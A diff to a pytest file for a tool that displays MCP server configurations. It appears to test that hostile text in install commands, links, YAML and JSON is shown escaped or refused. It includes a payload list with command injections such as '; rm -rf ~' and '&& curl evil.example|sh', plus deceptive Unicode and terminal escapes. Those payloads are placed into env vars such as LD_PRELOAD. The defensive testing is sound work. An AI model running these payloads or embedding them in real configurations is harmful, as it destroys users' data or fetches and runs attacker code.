@@ -18,6 +18,7 @@ from trayapp.cli.shown_server import decisive_lines
 from trayapp.cli.source import Proposal, proposals
 from trayapp.config.read.entry import read_one
 from trayapp.model.errors import MultiMcpError
+from trayapp.sources.recognize import link_to
 
 PAYLOADS = (
     "$(id)", "`id`", "; rm -rf ~", "&& curl evil.example|sh", "| sh", "> /etc/x", "\u202egnp.x", "a\u200bb", "\x1b[2J",
@@ -71,7 +72,44 @@ def identifier(payload: str) -> str:
     return json.dumps({"name": "io.github.a/x", "packages": [{"registryType": "npm", "identifier": payload}]})
 
 
-CARRIERS: tuple[Callable[[str], str], ...] = (snippet, script, shell, line, link, toml, server_json, identifier)
+def add_line(payload: str) -> str:
+    return f"claude mcp add x -e A=1 -- npx -y x-mcp {shlex.quote(payload)}"
+
+
+def add_json(payload: str) -> str:
+    entry = {"command": "npx", "args": [payload], "env": {"NODE_OPTIONS": payload}}
+    return f"codex mcp add-json x {shlex.quote(json.dumps(entry))}"
+
+
+def yaml(payload: str) -> str:
+    inner = {"type": "stdio", "cmd": "npx", "args": [payload], "envs": {"LD_PRELOAD": payload}}
+    return f"extensions:\n  x: {json.dumps(inner)}\n"
+
+
+def opencode(payload: str) -> str:
+    inner = {"type": "local", "command": ["npx", payload], "environment": {"PYTHONSTARTUP": payload}}
+    return json.dumps({"mcp": {"x": inner}})
+
+
+def editor_link(payload: str) -> str:
+    config = {"name": "x", "config": {"command": "npx", "args": [payload], "env": {"BASH_ENV": payload}}}
+    return f"vscode:mcp/install?{quote(json.dumps(config))}"
+
+
+def own_link(payload: str) -> str:
+    return link_to({"command": "npx", "args": [payload], "cwd": "/tmp", "env": {"PATH": payload}}, "x")
+
+
+def two_servers(payload: str) -> str:
+    return json.dumps(
+        {"mcpServers": {"x": {"command": "npx", "args": ["a"]}, "y": {"command": "npx", "args": [payload]}}}
+    )
+
+
+CARRIERS: tuple[Callable[[str], str], ...] = (
+    snippet, script, shell, line, link, toml, server_json, identifier, add_line, add_json, yaml, opencode, editor_link,
+    own_link, two_servers,
+)  # fmt: skip
 
 
 @pytest.fixture(autouse=True)
@@ -103,6 +141,7 @@ def test_a_hostile_text_is_shown_whole_or_refused(carrier: Callable[[str], str],
         assert all(escape_unprintable(shlex.quote(word)) in proposal.lines[0] for word in words)
         for name, value in (entry.get("env") or {}).items():
             assert escape_unprintable(f"{name}={value}") in text
+        assert entry.get("cwd", "") in text
 
 
 @pytest.mark.requirement("source-whole", "confine-import")
@@ -113,6 +152,15 @@ def test_how_far_a_server_is_confined_is_shown() -> None:
     server, _ = read_one("x", {"command": "x", "confine": {"read": ["~/a\u202eb"]}})
     assert server is not None
     assert list(decisive_lines(server))[1:] == [r'confine: {"read": ["~/a\u202eb"]}']
+
+
+@pytest.mark.requirement("source-whole")
+@pytest.mark.parametrize("payload", ["a\u202eb", "a\U000e0072b", "a\x1b[2Jb", "a\u200bb"])
+def test_what_is_invisible_in_a_plain_variable_or_a_header_is_shown_escaped(payload: str) -> None:
+    for entry in ({"command": "x", "env": {"A": payload}}, {"url": "https://x.example/mcp", "headers": {"A": payload}}):
+        server, _ = read_one("x", entry)
+        assert server is not None
+        assert escape_unprintable(payload) in "\n".join(decisive_lines(server))
 
 
 @pytest.mark.requirement("source-whole")
